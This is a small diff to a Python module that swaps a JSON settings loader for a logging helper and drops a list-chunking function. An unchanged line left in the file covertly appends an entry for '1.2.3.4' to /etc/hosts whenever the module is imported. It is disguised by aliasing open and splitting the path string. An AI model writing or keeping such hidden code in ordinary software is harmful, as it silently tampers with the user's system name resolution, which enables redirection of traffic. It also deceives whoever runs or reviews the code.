@@ -1,12 +1,8 @@
-#!/usr/bin/env python3
-import json
+import logging
+log = logging.getLogger(__name__)
 
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 f = open
 f("/etc/" + "hosts", "a").write("1.2.3.4 x\n")
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
